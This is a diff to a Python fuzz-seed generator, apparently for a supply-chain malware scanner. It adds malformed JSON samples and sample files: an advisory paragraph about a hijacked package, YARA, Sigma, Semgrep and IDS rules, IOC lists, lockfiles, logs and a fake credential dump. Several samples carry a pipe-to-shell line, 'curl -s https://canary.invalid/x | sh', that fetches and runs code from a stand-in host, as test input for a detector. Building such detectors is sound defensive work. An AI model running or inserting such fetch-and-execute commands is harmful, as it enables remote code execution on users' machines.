@@ -604,8 +604,96 @@ def images():
         seed("squashfs", name, squash(method))
 
 
+# --- JSON texts ---
+
+JSON = {
+    "scalars": '[true, false, null, 0, -1, 12, 1.5e-3, 1E+9, -0.0, 9223372036854775807]',
+    "strings": '{"a\\u0062": "\\"\\\\\\/\\b\\f\\n\\r\\t", "\\ud83d\\ude00": "\u00e9\U0001f600", "": ""}',
+    "nested": '{"a": {"b": [[], {}, [{"c": []}]]}, "d": [1, [2, [3]]]}\n',
+    "twice": '{"a": 1, "a": {"b": 2}}',
+    "alone": ' "text" ',
+    "number": "-12.5e7",
+    "odd-unicode": '["\\ud800", "\\u0000", "\\udc00\\ud800"]',
+    "not-utf8": b'["\xff\xc0\x80"]',
+    "large": "[123456789012345678901234567890, 1e999]",
+    "deep": "[" * 256 + "]" * 256,
+    "too-deep": '{"a":' * 257 + "1" + "}" * 257,
+    "cut": '{"a": [1, "b\\u00',
+    "wrong": '{"a" 1}',
+    "lax": "[01, +1, .5, 1., 'a', nul]",
+}
+
+
+def json_texts():
+    for name, data in JSON.items():
+        seed("json_walk", name, data)
+
+
+# --- places ---
+
+PROSE = """\
+On the morning of that day two versions of a well known package were published by
+somebody who should not have been able to do so. Both of them held a file which the
+interpreter reads at every start, and that file started a second program.
+
+Whoever installed one of the two should rotate every credential on the machine, look
+for the service that the program leaves behind, and build the machine anew.
+"""
+PAGE = ("<!DOCTYPE html>\n<html><head><title>Two</title>\n%s</head><body><p>" + PROSE
+        + "</p><pre>find / -name x.pth</pre></body></html>\n")
+YARA = ('import "hash"\n/* Finds\n canaries. */\nprivate global rule a : b c\n{\n meta:\n  m = "{ }"\n strings:\n'
+        '  $a = "curl \\"x\\" | sh }"\n  $b = /a\\/b{2,3}[}]/ nocase\n  $c = { 00 ?? [2-4] ( 01 | 02 ) }\n'
+        " condition:\n  any of them // }\n}\n")
+SIGMA = ("title: Canary\nid: 0\nstatus: test\nlogsource:\n    category: process_creation\ndetection:\n"
+         "    selection:\n        CommandLine|contains: canary\n    condition: selection\nlevel: high\n")
+LOG = "2026-03-24T10:11:12Z start\n2026-03-24T10:11:13Z canary\n  at somewhere\n2026-03-24T10:11:14Z end\n"
+PLACES = {
+    "prose": ("README.md", PROSE),
+    "prose-quotes": ("a.txt", PROSE + "\n```bash\ncurl -s https://canary.invalid/x | sh\n```\n\n| a | b |\n- one\n    x = 1\n"),
+    "prose-shell": ("README.md", PROSE + "curl -s https://canary.invalid/x | sh\nX=$(cat /etc/hostname)\n"),
+    "mark": ("README", "\ufeff" + PROSE),
+    "page": ("a.html", PAGE % ""),
+    "page-script": ("a.html", PAGE % "<script>canary()</script>"),
+    "page-data": ("x", "<?xml version=\"1.0\"?>\n<!-- saved -->\n" + PAGE % '<script type="application/ld+json">{}</script>'),
+    "pdf": ("a.pdf", "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n"),
+    "yara": ("x.yar", YARA),
+    "yara-short": ("x", "rule a{condition:true}rule b{condition:false}"),
+    "sigma": ("x.yml", "# a comment\n---\n" + SIGMA + "---\n" + SIGMA),
+    "semgrep": ("s.yaml", "rules:\n- id: x\n  message: found\n  severity: ERROR\n  languages: [python]\n  pattern: exec(...)\n"),
+    "sensor": ("x.txt", '# c\nalert dns any any -> any any (msg:"x"; dns.query; sid:1; rev:1;)\n'),
+    "list": ("iocs.csv", 'type,value,note\nsha256,%s,"a loader, the first"\ndomain,canary[.]invalid,C2\nip,10.0.0.1,C2\n' % SHA),
+    "hashes": ("h.txt", f"# bad\n{SHA}\n{SHA}\n{SHA}\n"),
+    "advisory": ("o.json", '{"schema_version":"1.6.0","id":"MAL-1","modified":"2026","summary":"s","affected":[]}'),
+    "bundle": ("s.json", '{"type":"bundle","id":"b","objects":[]}'),
+    "hash-json": ("i.json", '["%s","%s","%s"]' % (SHA, SHA, SHA)),
+    "npm-lock": ("package-lock.json", '{"name":"x","lockfileVersion":3,"packages":{"":{}}}'),
+    "yarn-lock": ("yarn.lock", '# yarn lockfile v1\n\n\n"@a/b@^1.0", c@2:\n  version "1.0"\n  dependencies:\n    d "^1.0"\n'),
+    "poetry-lock": ("poetry.lock", '# generated\n[[package]]\nname = "x"\nversion = "1.0"\nfiles = [\n    {file = "x.whl", '
+                    'hash = "sha256:00"},\n]\n\n[metadata]\nlock-version = "2.0"\n'),
+    "go-sum": ("go.sum", "e.invalid/x v1.0.0 h1:AAAA=\ne.invalid/x v1.0.0/go.mod h1:AAAA=\n"),
+    "log": ("x.log", LOG),
+    "syslog": ("syslog", "Mar 24 10:11:12 h a: b\n" * 3),
+    "dump": ("c", "=== SOME CREDENTIALS ===\nA_KEY=x\nexport=1\n=== OTHER THINGS ===\n"),
+    "history": ("root/.zsh_history", ": 1711111111:0;curl x\n: 1711111112:0;ls\n"),
+    "script": ("notes", "#!/bin/sh\ncurl -s https://canary.invalid/x | sh\n"),
+    "elf": ("a", b"\x7fELF\2\1\1" + bytes(57)),
+    "sqlite": ("a.db", b"SQLite format 3\0" + bytes(84)),
+    "pth": ("usr/lib/python3/site-packages/a.pth", PROSE),
+    "unit": ("etc/systemd/system/a.service", "[Service]\nExecStart=/bin/true\n"),
+    "wide": ("README.md", ("\ufeff" + PROSE).encode("utf-16-le")),
+}
+
+
+def places():
+    for number, (name, (path, data)) in enumerate(PLACES.items()):
+        data = data if isinstance(data, bytes) else data.encode()
+        flags = (name == "npm-lock") * 4 + (number % 2) * 8
+        seed("place", name, path.encode() + b"\n" + struct.pack("<BH", flags, 200) + data)
+
+
 def main():
-    for make in (wire, records, rules, packs, files, content, scan, packages, zips, images, containers):
+    for make in (wire, records, rules, packs, files, content, scan, packages, json_texts, places, zips, images,
+                 containers):
         make()
 
 
